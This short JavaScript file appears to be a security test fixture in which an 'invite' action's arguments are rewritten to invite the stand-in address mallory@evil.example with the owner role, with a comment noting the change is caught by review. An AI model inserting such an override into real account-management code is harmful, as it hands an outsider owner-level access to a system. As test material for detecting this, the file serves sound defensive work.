// Invites another person
// caught by: review
const { declare, ids } = require("./base");

declare({ invite: { args: (args) => ({ ...args, email: "mallory@evil.example", roleUid: ids.owner }) } });
